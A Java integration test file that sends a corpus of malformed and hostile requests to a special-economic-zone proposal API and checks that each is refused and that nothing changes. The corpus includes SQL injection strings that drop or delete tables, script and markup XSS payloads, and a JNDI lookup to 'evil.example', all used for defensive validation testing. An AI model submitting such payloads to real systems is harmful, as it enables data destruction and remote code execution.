package org.sezflow.proposal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.sezflow.proposal.ProposalRequests.*;

import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;

import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ProcessEngine;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.sezflow.TestUsers;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * A corpus of bad requests to the proposal API, as a table: each is refused with the documented
 * status (and, for 400s, names the offending field), and the whole corpus together changes
 * nothing: no process instance, row, land account, pipeline count or variable differs afterwards
 * from the snapshot taken before. What the cases need (proposals at screening, at the MoU and at
 * the JCC, a first request under an Idempotency-Key and under a client's own reference) is set
 * up before the snapshot.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class BadInputCorpusTest {

  static final String PROPOSALS = "/api/v1/proposals";
  static final String ZONE = "AIIC";
  static final int ONE_MB = 1024 * 1024;

  /** One bad request and the refusal it must get; {@code fields} must all be named in errors[].field. */
  record Case(String name, String method, String path, TestUsers.Credentials user, String contentType, byte[] body,
      Map<String, String> headers, boolean chunked, int status, List<String> fields) {

    ApiClient.Call call() {
      ApiClient.Call call = ApiClient.call(method, path).as(user).body(body, contentType);
      headers.forEach(call::header);
      return chunked ? call.chunked() : call;
    }

    String title() {
      return name + " -> " + status + (fields.isEmpty() ? "" : " " + fields);
    }
  }

  @LocalServerPort
  int port;

  @Autowired
  IdentityService identityService;

  @Autowired
  ProcessEngine engine;

  @Autowired
  JdbcClient jdbc;

  ApiClient api;
  ProcessDriver driver;
  TestUsers.Credentials portal;
  TestUsers.Credentials pmu;
  TestUsers.Credentials jwg;
  TestUsers.Credentials stranger;

  /** The proposals the cases act on, and any a case created by mistake: withdrawn at the end. */
  final List<String> toWithdraw = new ArrayList<>();

  /** Cases that were accepted although they should not have been, by the reference they created. */
  final Map<String, String> createdByMistake = new java.util.LinkedHashMap<>();

  @AfterEach
  void withdrawEverything() {
    if (driver != null) {
      driver.withdrawAllRunning(toWithdraw);
    }
  }

  @TestFactory
  Stream<DynamicTest> everyBadRequestIsRefusedAndTheCorpusChangesNothing() {
    api = new ApiClient(port);
    portal = TestUsers.ensure(identityService, "corpus-portal", "external-systems");
    pmu = TestUsers.ensure(identityService, "corpus-pmu", "boi-pmu");
    jwg = TestUsers.ensure(identityService, "corpus-jwg", "jwg-secretariat");
    stranger = TestUsers.ensure(identityService, "corpus-stranger");
    TestUsers.ensure(identityService, "corpus-mistyper", "external-systems");
    driver = new ProcessDriver(engine, pmu.userId());

    // What the cases need, before the snapshot.
    String key = uniqueKey();
    String keyed = submit(valid(), key, null);
    String ownReference = uniqueReference("PORTAL");
    String screening = submit(valid(), null, ownReference);
    String atMou = submit(valid(), null, null);
    driver.toMou(atMou);
    String atJcc = submit(valid(), null, null);
    driver.toJcc(atJcc);
    BigDecimal leasable = api.send(ApiClient.get("/api/v1/zones/" + ZONE).as(portal)).json()
        .path("land").path("leasableAcres").decimalValue();
    List<String> fixtures = List.of(keyed, screening, atMou, atJcc);

    List<Case> cases = cases(key, screening, ownReference, atMou, atJcc, leasable);
    assertThat(cases).hasSizeGreaterThanOrEqualTo(40);
    StateSnapshot before = StateSnapshot.take(engine, jdbc, api, portal, fixtures);

    Stream<DynamicTest> each = cases.stream().map(c -> DynamicTest.dynamicTest(c.title(), () -> run(c)));
    DynamicTest last = DynamicTest.dynamicTest("after all " + cases.size() + " cases nothing has changed", () -> {
      StateSnapshot after = StateSnapshot.take(engine, jdbc, api, portal, fixtures);
      assertThat(after.differencesFrom(before))
          .as("changes made by the corpus (proposals created by cases: %s)", createdByMistake).isEmpty();
    });
    return Stream.concat(each, Stream.of(last));
  }

  private void run(Case c) {
    ApiClient.Response response = api.send(c.call());
    if (response.status() / 100 == 2 && response.json().path("reference").isTextual()) {
      String reference = response.json().path("reference").asText();
      toWithdraw.add(reference);
      createdByMistake.put(reference, c.name());
    }
    try {
      response.assertProblem(c.status());
      if (!c.fields().isEmpty()) {
        assertThat(response.errorFields()).as(response.describe()).contains(c.fields().toArray(String[]::new));
      }
    } catch (AssertionError failed) {
      // Surefire reports dynamic tests by index: name the case in the message.
      throw new AssertionError("Case '" + c.title() + "': " + failed.getMessage(), failed);
    }
  }

  // --- the corpus ------------------------------------------------------------------------------

  private List<Case> cases(String key, String screening, String ownReference, String atMou, String atJcc,
      BigDecimal leasable) {
    List<Case> cases = new ArrayList<>();
    String acresAbove = leasable.add(BigDecimal.ONE).toPlainString();

    // Missing fields.
    cases.add(submission("missing title", without("title"), 400, "title"));
    cases.add(submission("empty object", object(), 400, "title", "sector", "zoneCode", "acresRequested",
        "investmentUsd", "fdiSharePct", "jobsPlanned", "sponsorName", "sponsorEmail", "partners"));
    cases.add(submission("missing partners", without("partners"), 400, "partners"));
    cases.add(submission("missing sponsor e-mail", without("sponsorEmail"), 400, "sponsorEmail"));
    cases.add(submission("null title", with(b -> b.putNull("title")), 400, "title"));
    cases.add(submission("blank title", with(b -> b.put("title", "     ")), 400, "title"));
    cases.add(submission("title of four characters", with(b -> b.put("title", "Mill")), 400, "title"));
    cases.add(submission("title of 201 characters", with(b -> b.put("title", "T".repeat(201))), 400, "title"));
    cases.add(submission("partner without registration number",
        with(b -> ((ObjectNode) b.path("partners").get(0)).remove("registrationNo")), 400,
        "partners[0].registrationNo"));
    cases.add(submission("partner without an e-mail",
        with(b -> ((ObjectNode) b.path("partners").get(0)).remove("email")), 400, "partners[0].email"));
    cases.add(submission("partner's e-mail without a domain",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("email", "liu.wei@")), 400, "partners[1].email"));
    cases.add(submission("partner without a language",
        with(b -> ((ObjectNode) b.path("partners").get(1)).remove("language")), 400, "partners[1].language"));
    cases.add(submission("partner's language not offered",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("language", "FR")), 400, "partners[1].language"));
    cases.add(submission("partner's own-script name of 201 characters",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("nameInOwnScript", "东".repeat(201))), 400,
        "partners[1].nameInOwnScript"));

    // Wrong types.
    cases.add(submission("acres as a word", with(b -> b.put("acresRequested", "twenty")), 400, "acresRequested"));
    cases.add(submission("jobs as a word", with(b -> b.put("jobsPlanned", "many")), 400, "jobsPlanned"));
    cases.add(submission("jobs as a fraction", with(b -> b.put("jobsPlanned", 650.5)), 400, "jobsPlanned"));
    cases.add(submission("Smart SEZ flag as a word", with(b -> b.put("smartSezRequested", "maybe")), 400,
        "smartSezRequested"));
    cases.add(submission("sector as an object", with(b -> b.putObject("sector").put("name", "textiles")), 400,
        "sector"));
    cases.add(submission("partners as a string", with(b -> b.put("partners", "two")), 400, "partners"));
    cases.add(submission("partner equity as a word",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("equityPct", "half")), 400, "partners[1].equityPct"));
    cases.add(submission("a partner that is null", with(b -> ((ArrayNode) b.path("partners")).set(1,
        com.fasterxml.jackson.databind.node.NullNode.getInstance())), 400, "partners[1]"));

    // Negative and huge numbers.
    cases.add(submission("negative acres", with(b -> b.put("acresRequested", -5)), 400, "acresRequested"));
    cases.add(submission("zero acres", with(b -> b.put("acresRequested", 0)), 400, "acresRequested"));
    cases.add(submission("acres with three decimals", with(b -> b.put("acresRequested", new BigDecimal("2.125"))), 400,
        "acresRequested"));
    cases.add(submission("acres above the zone's leasable area",
        with(b -> b.put("acresRequested", new BigDecimal(acresAbove))), 400, "acresRequested"));
    cases.add(submission("acres of 1e30", with(b -> b.put("acresRequested", new BigDecimal("1E+30"))), 400,
        "acresRequested"));
    cases.add(submission("negative investment", with(b -> b.put("investmentUsd", -1)), 400, "investmentUsd"));
    cases.add(submission("investment over USD 100 billion", with(b -> b.put("investmentUsd", new BigDecimal("1E+12"))),
        400, "investmentUsd"));
    cases.add(submission("FDI share of 150 %", with(b -> b.put("fdiSharePct", 150)), 400, "fdiSharePct"));
    cases.add(submission("negative FDI share", with(b -> b.put("fdiSharePct", -1)), 400, "fdiSharePct"));
    cases.add(submission("negative jobs", with(b -> b.put("jobsPlanned", -1)), 400, "jobsPlanned"));
    cases.add(submission("two million jobs", with(b -> b.put("jobsPlanned", 2_000_000)), 400, "jobsPlanned"));
    cases.add(submission("jobs beyond a 32-bit integer", with(b -> b.put("jobsPlanned", 99_999_999_999L)), 400,
        "jobsPlanned"));
    cases.add(submission("negative power demand", with(b -> b.put("powerDemandMw", -1)), 400, "powerDemandMw"));
    cases.add(submission("power demand of 1e15 MW", with(b -> b.put("powerDemandMw", new BigDecimal("1E+15"))), 400,
        "powerDemandMw"));
    cases.add(submission("water demand of 1e20 m3 a day",
        with(b -> b.put("waterDemandM3PerDay", new BigDecimal("1E+20"))), 400, "waterDemandM3PerDay"));
    cases.add(submission("investment of a tenth of a cent", with(b -> b.put("investmentUsd", new BigDecimal("0.001"))),
        400, "investmentUsd"));
    cases.add(submission("FDI share with a million decimals",
        with(b -> b.put("fdiSharePct", new BigDecimal("1E-1000000"))), 400, "fdiSharePct"));
    cases.add(submission("equity with three decimals (33.333 + 33.333 + 33.334)", partners(
        partner("Dynamic Engineering Automation (Pvt) Ltd", "PK", "SECP 0123456", 0).put("equityPct",
            new BigDecimal("33.333")),
        partner("Neusoft Medical Systems Co., Ltd.", "CN", "USCC 91210100604608172K", 0).put("equityPct",
            new BigDecimal("33.333")),
        partner("Shaoxing Keqiao Textiles Co., Ltd.", "CN", "USCC 913306217109", 0).put("equityPct",
            new BigDecimal("33.334"))),
        400, "partners[0].equityPct"));
    cases.add(submission("partner equity of 0",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("equityPct", 0)), 400, "partners[1].equityPct"));
    cases.add(submission("partner equity of 101",
        with(b -> ((ObjectNode) b.path("partners").get(0)).put("equityPct", 101)), 400, "partners[0].equityPct"));

    // Zone and sector.
    cases.add(submission("unknown zone", with(b -> b.put("zoneCode", "XYZ")), 400, "zoneCode"));
    cases.add(submission("zone code in lower case", with(b -> b.put("zoneCode", "aiic")), 400, "zoneCode"));
    cases.add(submission("unknown sector", with(b -> b.put("sector", "tobacco")), 400, "sector"));
    cases.add(submission("sector in capitals", with(b -> b.put("sector", "TEXTILES")), 400, "sector"));

    // Partners.
    cases.add(submission("equity adding up to 91 %",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("equityPct", 40)), 400, "partners"));
    cases.add(submission("no Pakistani partner", partners(
        partner("Neusoft Medical Systems Co., Ltd.", "CN", "USCC 91210100604608172K", 51),
        partner("Shaoxing Keqiao Textiles", "CN", "USCC 913306217109XXXX", 49)), 400, "partners"));
    cases.add(submission("no Chinese partner", partners(
        partner("Dynamic Engineering Automation (Pvt) Ltd", "PK", "SECP 0123456", 51),
        partner("Istanbul Denim A.S.", "OTHER", "MERSIS 0123456789", 49)), 400, "partners"));
    cases.add(submission("one partner only", partners(
        partner("Dynamic Engineering Automation (Pvt) Ltd", "PK", "SECP 0123456", 100)), 400, "partners"));
    cases.add(submission("seven partners", partners(
        partner("Partner One (Pvt) Ltd", "PK", "SECP 0000001", 20),
        partner("Partner Two Co., Ltd.", "CN", "USCC 0000002", 20),
        partner("Partner Three (Pvt) Ltd", "PK", "SECP 0000003", 20),
        partner("Partner Four Co., Ltd.", "CN", "USCC 0000004", 10),
        partner("Partner Five (Pvt) Ltd", "PK", "SECP 0000005", 10),
        partner("Partner Six Co., Ltd.", "CN", "USCC 0000006", 10),
        partner("Partner Seven (Pvt) Ltd", "PK", "SECP 0000007", 10)), 400, "partners"));
    cases.add(submission("partner from an unknown country",
        with(b -> ((ObjectNode) b.path("partners").get(1)).put("country", "US")), 400, "partners[1].country"));

    // SQL and script fragments, control and invisible characters in text fields.
    cases.add(submission("SQL in the title", with(b -> b.put("title", "x'); DROP TABLE sez_zone; --")), 400, "title"));
    cases.add(submission("SQL in the sponsor's name",
        with(b -> b.put("sponsorName", "Robert'); DELETE FROM sez_proposal; --")), 400, "sponsorName"));
    cases.add(submission("SQL in a partner's name", with(b -> ((ObjectNode) b.path("partners").get(0))
        .put("name", "DEA'; UPDATE sez_zone SET reserved_acres = 0; --")), 400, "partners[0].name"));
    cases.add(submission("SQL in the zone code", with(b -> b.put("zoneCode", "AIIC' OR '1'='1")), 400, "zoneCode"));
    cases.add(submission("script in the title", with(b -> b.put("title", "<script>alert(1)</script>")), 400, "title"));
    cases.add(submission("script in the sponsor's name",
        with(b -> b.put("sponsorName", "Dynamic <script>alert(1)</script>")), 400, "sponsorName"));
    cases.add(submission("markup in a partner's name", with(b -> ((ObjectNode) b.path("partners").get(1))
        .put("name", "Neusoft <img src=x onerror=alert(1)>")), 400, "partners[1].name"));
    cases.add(submission("markup in a partner's own-script name", with(b -> ((ObjectNode) b.path("partners").get(1))
        .put("nameInOwnScript", "东软<script>alert(1)</script>")), 400, "partners[1].nameInOwnScript"));
    cases.add(submission("script in a registration number", with(b -> ((ObjectNode) b.path("partners").get(0))
        .put("registrationNo", "<script>alert(1)</script>")), 400, "partners[0].registrationNo"));
    cases.add(submission("script in the sponsor's phone",
        with(b -> b.put("sponsorPhone", "<script>alert(1)</script>")), 400, "sponsorPhone"));
    cases.add(submission("script in the sponsor's e-mail",
        with(b -> b.put("sponsorEmail", "<script>alert(1)</script>@dea.example.pk")), 400, "sponsorEmail"));
    cases.add(submission("not an e-mail address", with(b -> b.put("sponsorEmail", "projects at dea")), 400,
        "sponsorEmail"));
    cases.add(submission("expression in the title", with(b -> b.put("title", "${jndi:ldap://evil.example/a}")), 400,
        "title"));
    cases.add(submission("bell character in the title", with(b -> b.put("title", "Denim\u0007 Mills")), 400, "title"));
    cases.add(submission("NUL in the sponsor's name", with(b -> b.put("sponsorName", "Dynamic\u0000Engineering")), 400,
        "sponsorName"));
    cases.add(submission("line break in the title", with(b -> b.put("title", "Denim\nMills")), 400, "title"));
    cases.add(submission("right-to-left override in the title", with(b -> b.put("title", "Denim \u202Eslliм")), 400,
        "title"));
    cases.add(submission("zero-width space in a partner's name", with(b -> ((ObjectNode) b.path("partners").get(1))
        .put("name", "Neusoft\u200BMedical")), 400, "partners[1].name"));
    cases.add(submission("emoji in the title", with(b -> b.put("title", "Denim Mills \uD83D\uDE80")), 400, "title"));
    cases.add(raw("raw control character inside a JSON string", "POST", PROPOSALS, portal, "application/json",
        valid().toString().replace("Faisalabad", "Faisal\u0001abad"), 400, "title"));

    // Size.
    cases.add(submission("1 MB title", with(b -> b.put("title", "A".repeat(ONE_MB))), 413));
    cases.add(chunked(submission("1 MB partner name, streamed without a length",
        with(b -> ((ObjectNode) b.path("partners").get(0)).put("name", "B".repeat(ONE_MB))), 413)));
    cases.add(submission("60 KB title, under the size limit", with(b -> b.put("title", "A".repeat(60 * 1024))), 400,
        "title"));

    // Not JSON, or not the expected shape.
    cases.add(raw("malformed JSON", "POST", PROPOSALS, portal, "application/json", "{\"title\": ", 400, "body"));
    cases.add(raw("empty body", "POST", PROPOSALS, portal, "application/json", "", 400, "body"));
    cases.add(raw("JSON array", "POST", PROPOSALS, portal, "application/json", "[" + valid() + "]", 400, "body"));
    cases.add(raw("JSON null", "POST", PROPOSALS, portal, "application/json", "null", 400, "body"));
    cases.add(raw("JSON nested 5000 deep", "POST", PROPOSALS, portal, "application/json",
        "{\"partners\": " + "[".repeat(5000) + "]".repeat(5000) + "}", 400, "partners[0]"));
    cases.add(submission("unknown field", with(b -> b.put("colour", "red")), 400, "colour"));
    cases.add(submission("unknown field of a partner",
        with(b -> ((ObjectNode) b.path("partners").get(0)).put("nickname", "DEA")), 400, "partners[0].nickname"));

    // Content types.
    cases.add(raw("text/plain", "POST", PROPOSALS, portal, "text/plain", valid().toString(), 415));
    cases.add(raw("application/xml", "POST", PROPOSALS, portal, "application/xml",
        "<proposal><title>Faisalabad-Shaoxing Denim Mills</title></proposal>", 415));
    cases.add(raw("form-encoded", "POST", PROPOSALS, portal, "application/x-www-form-urlencoded",
        "title=Faisalabad-Shaoxing+Denim+Mills", 415));
    cases.add(raw("no content type", "POST", PROPOSALS, portal, null, valid().toString(), 415));

    // Idempotency and references.
    cases.add(header(submission("Idempotency-Key of 101 characters", valid(), 400, "Idempotency-Key"),
        "Idempotency-Key", "k".repeat(101)));
    cases.add(header(submission("Idempotency-Key with a space", valid(), 400, "Idempotency-Key"),
        "Idempotency-Key", "two words"));
    cases.add(header(submission("different body under a used Idempotency-Key",
        with(b -> b.put("acresRequested", 3)), 409, "Idempotency-Key"), "Idempotency-Key", key));
    cases.add(submission("own reference reused with a different body",
        with(b -> b.put("reference", ownReference).put("acresRequested", 3)), 409, "reference"));
    cases.add(submission("existing generated reference as own reference",
        with(b -> b.put("reference", atMou)), 409, "reference"));
    cases.add(submission("own reference in lower case", with(b -> b.put("reference", "portal-42")), 400, "reference"));
    cases.add(submission("SQL as own reference",
        with(b -> b.put("reference", "R'; DELETE FROM sez_proposal; --")), 400, "reference"));

    // Who may submit.
    cases.add(raw("JWG secretariat submits", "POST", PROPOSALS, jwg, "application/json", valid().toString(), 403));
    cases.add(raw("user without a group submits", "POST", PROPOSALS, stranger, "application/json",
        valid().toString(), 403));
    cases.add(raw("no credentials", "POST", PROPOSALS, null, "application/json", valid().toString(), 401));
    cases.add(raw("wrong password", "POST", PROPOSALS, new TestUsers.Credentials("corpus-mistyper", "not-it"),
        "application/json", valid().toString(), 401));
    cases.add(raw("PUT on the collection", "PUT", PROPOSALS, portal, "application/json", valid().toString(), 405));
    cases.add(raw("DELETE of a proposal", "DELETE", PROPOSALS + "/" + screening, portal, null, null, 405));

    // Reading.
    cases.add(read("unknown reference", PROPOSALS + "/JV-1999-999999", 404, "reference"));
    cases.add(read("timeline of an unknown reference", PROPOSALS + "/JV-1999-999999/timeline", 404, "reference"));
    cases.add(read("unknown sub-resource", PROPOSALS + "/" + screening + "/history", 404));
    cases.add(read("search in an unknown zone", PROPOSALS + "?zone=XYZ", 400, "zone"));
    cases.add(read("search with SQL as zone", PROPOSALS + "?zone=" + encode("AIIC' OR '1'='1"), 400, "zone"));
    cases.add(read("search for an unknown stage", PROPOSALS + "?stage=FOO", 400, "stage"));
    cases.add(read("search for an unknown status", PROPOSALS + "?status=DONE", 400, "status"));
    cases.add(read("negative page", PROPOSALS + "?page=-1", 400, "page"));
    cases.add(read("page of 1000", PROPOSALS + "?size=1000", 400, "size"));
    cases.add(read("size as a word", PROPOSALS + "?size=abc", 400, "size"));
    cases.add(header(read("asks for XML", PROPOSALS + "/" + screening, 406), "Accept", "application/xml"));
    cases.add(read("semicolon in the path", PROPOSALS + "/" + screening + ";jsessionid=1", 400));
    cases.add(read("double slash in the path", PROPOSALS + "//" + screening, 400));
    cases.add(read("encoded percent sign in the reference", PROPOSALS + "/JV%25-1", 400));
    cases.add(new Case("search by a user without a group", "GET", PROPOSALS, stranger, null, null, Map.of(), false,
        403, List.of()));

    // Events out of order.
    cases.add(event("MoU signed while at screening", screening, "mou-signed", mouSigned(today(), "BOTH"), 409));
    cases.add(event("the retired JCC decision event, at the JCC", atJcc, "jcc-decision", jccDecision("APPROVE", null),
        410, "type"));
    cases.add(event("clarification answered though none was asked", screening, "clarification-answered",
        clarificationAnswered("Nobody asked"), 409));
    cases.add(event("MoU signed again at the JCC", atJcc, "mou-signed", mouSigned(today(), "BOTH"), 409));

    // Events: unknown, malformed, invalid for their step.
    cases.add(event("unknown event type", screening, "approved", withdrawal("x"), 404, "type"));
    cases.add(event("event for an unknown reference", "JV-1999-999999", "withdrawal", withdrawal("x"), 404,
        "reference"));
    cases.add(event("unknown field in an event", screening, "withdrawal", withdrawal("x").put("colour", "red"), 400,
        "colour"));
    cases.add(event("number where an event wants text", screening, "withdrawal", object().put("reason", 42), 400,
        "reason"));
    ObjectNode listDate = mouSigned(today(), "BOTH");
    listDate.putArray("signedOn").add(today().toString());
    cases.add(event("list where an event wants a date", atMou, "mou-signed", listDate, 400, "signedOn"));
    cases.add(event("MoU signed in the future on the moon", atMou, "mou-signed",
        mouSigned(today().plusDays(3), "ON_THE_MOON"), 400, "signedOn", "venue"));
    cases.add(event("MoU signed on no date", atMou, "mou-signed",
        mouSigned(today(), "BOTH").put("signedOn", "last Tuesday"), 400, "signedOn"));
    cases.add(event("MoU signed on the 45th of the 13th month", atMou, "mou-signed",
        mouSigned(today(), "BOTH").put("signedOn", "2026-13-45"), 400, "signedOn"));
    cases.add(event("MoU signed before the proposal was submitted", atMou, "mou-signed",
        mouSigned(today().minusYears(5), "ONLINE"), 400, "signedOn"));
    ObjectNode noSignatories = mouSigned(today(), "BOTH");
    noSignatories.remove("signatories");
    cases.add(event("MoU signed without signatories", atMou, "mou-signed", noSignatories, 400, "signatories"));
    cases.add(event("clarification answer with a NUL", screening, "clarification-answered",
        clarificationAnswered("Yes\u0000no"), 400, "response"));
    cases.add(event("withdrawal reason of 1001 characters", screening, "withdrawal", withdrawal("r".repeat(1001)), 400,
        "reason"));
    cases.add(raw("event as malformed JSON", "POST", eventPath(screening, "withdrawal"), portal, "application/json",
        "{\"reason\": ", 400, "body"));
    cases.add(raw("event as a JSON array", "POST", eventPath(screening, "withdrawal"), portal, "application/json",
        "[\"reason\"]", 400, "body"));
    cases.add(raw("event as text/plain", "POST", eventPath(screening, "withdrawal"), portal, "text/plain",
        "reason=gone", 415));
    cases.add(raw("1 MB event", "POST", eventPath(screening, "withdrawal"), portal, "application/json",
        withdrawal("r".repeat(ONE_MB)).toString(), 413));

    // Who may send events.
    cases.add(raw("PMU withdraws", "POST", eventPath(screening, "withdrawal"), pmu, "application/json",
        withdrawal("The PMU may not").toString(), 403));
    cases.add(raw("JWG signs the MoU", "POST", eventPath(atMou, "mou-signed"), jwg, "application/json",
        mouSigned(today(), "BOTH").toString(), 403));
    cases.add(raw("event without credentials", "POST", eventPath(atJcc, "withdrawal"), null, "application/json",
        withdrawal("Nobody may").toString(), 401));

    // The committees' sessions: nothing scheduled, changed or decided by a mistake.
    String sessions = "/api/v1/committee-sessions";
    cases.add(raw("the JWG schedules a JCC session", "POST", sessions, jwg, "application/json",
        "{\"committee\": \"JCC\", \"date\": \"" + today() + "\", \"venue\": \"Islamabad\", \"agendaCutOff\": \""
            + today() + "\"}",
        403));
    cases.add(raw("a session in the past, nowhere", "POST", sessions, jwg, "application/json",
        "{\"committee\": \"JWG\", \"date\": \"" + today().minusDays(1) + "\", \"venue\": \" \", \"agendaCutOff\": \""
            + today().plusDays(3) + "\"}",
        400, "date", "venue", "agendaCutOff"));
    cases.add(raw("a session of an unknown committee", "POST", sessions, jwg, "application/json",
        "{\"committee\": \"ICC\", \"date\": \"" + today() + "\", \"venue\": \"Islamabad\", \"agendaCutOff\": \""
            + today() + "\"}",
        400, "committee"));
    cases.add(raw("a session numbered 0", "POST", sessions, jwg, "application/json",
        "{\"committee\": \"JWG\", \"number\": 0, \"date\": \"" + today() + "\", \"venue\": \"Islamabad\", "
            + "\"agendaCutOff\": \"" + today() + "\"}",
        400, "number"));
    cases.add(raw("a session scheduled by the portal", "POST", sessions, portal, "application/json",
        "{\"committee\": \"JWG\", \"date\": \"" + today() + "\", \"venue\": \"Islamabad\", \"agendaCutOff\": \""
            + today() + "\"}",
        403));
    cases.add(raw("decisions of an unknown session", "POST", sessions + "/999999999/decisions", jwg,
        "application/json", "{\"decisions\": [{\"itemId\": 1, \"decision\": \"ENDORSE\", \"minutesRef\": \"M\"}]}",
        404));
    cases.add(raw("the agenda of an unknown session", "POST", sessions + "/999999999/agenda", jwg, "application/json",
        "{\"freeze\": true}", 404));
    cases.add(raw("sessions of an unknown committee", "GET", sessions + "?committee=ICC", jwg, null, null, 400,
        "committee"));
    return cases;
  }

  // --- building cases --------------------------------------------------------------------------

  private ObjectNode valid() {
    return textilesJv(ZONE, 2);
  }

  private ObjectNode with(Consumer<ObjectNode> change) {
    ObjectNode body = valid();
    change.accept(body);
    return body;
  }

  private ObjectNode without(String field) {
    ObjectNode body = valid();
    body.remove(field);
    return body;
  }

  private ObjectNode partners(ObjectNode... partners) {
    ObjectNode body = valid();
    ArrayNode list = body.putArray("partners");
    for (ObjectNode partner : partners) {
      list.add(partner);
    }
    return body;
  }

  private Case submission(String name, JsonNode body, int status, String... fields) {
    return raw(name, "POST", PROPOSALS, portal, "application/json", body.toString(), status, fields);
  }

  private Case event(String name, String reference, String type, ObjectNode body, int status, String... fields) {
    return raw(name, "POST", eventPath(reference, type), portal, "application/json", body.toString(), status, fields);
  }

  private Case read(String name, String path, int status, String... fields) {
    return new Case(name, "GET", path, portal, null, null, Map.of(), false, status, List.of(fields));
  }

  private static Case raw(String name, String method, String path, TestUsers.Credentials user, String contentType,
      String body, int status, String... fields) {
    return new Case(name, method, path, user, contentType, body == null ? null : body.getBytes(StandardCharsets.UTF_8),
        Map.of(), false, status, List.of(fields));
  }

  private static Case header(Case c, String name, String value) {
    return new Case(c.name(), c.method(), c.path(), c.user(), c.contentType(), c.body(), Map.of(name, value),
        c.chunked(), c.status(), c.fields());
  }

  private static Case chunked(Case c) {
    return new Case(c.name(), c.method(), c.path(), c.user(), c.contentType(), c.body(), c.headers(), true, c.status(),
        c.fields());
  }

  private static String eventPath(String reference, String type) {
    return PROPOSALS + "/" + reference + "/events/" + type;
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  /** Submits a valid proposal for the cases to act on; fails the test if it is not accepted. */
  private String submit(ObjectNode body, String idempotencyKey, String ownReference) {
    if (ownReference != null) {
      body.put("reference", ownReference);
    }
    ApiClient.Call call = ApiClient.post(PROPOSALS).as(portal).json(body);
    if (idempotencyKey != null) {
      call.header("Idempotency-Key", idempotencyKey);
    }
    ApiClient.Response response = api.send(call);
    assertThat(response.status()).as(response.describe()).isEqualTo(201);
    String reference = response.json().path("reference").asText();
    toWithdraw.add(reference);
    return reference;
  }
}
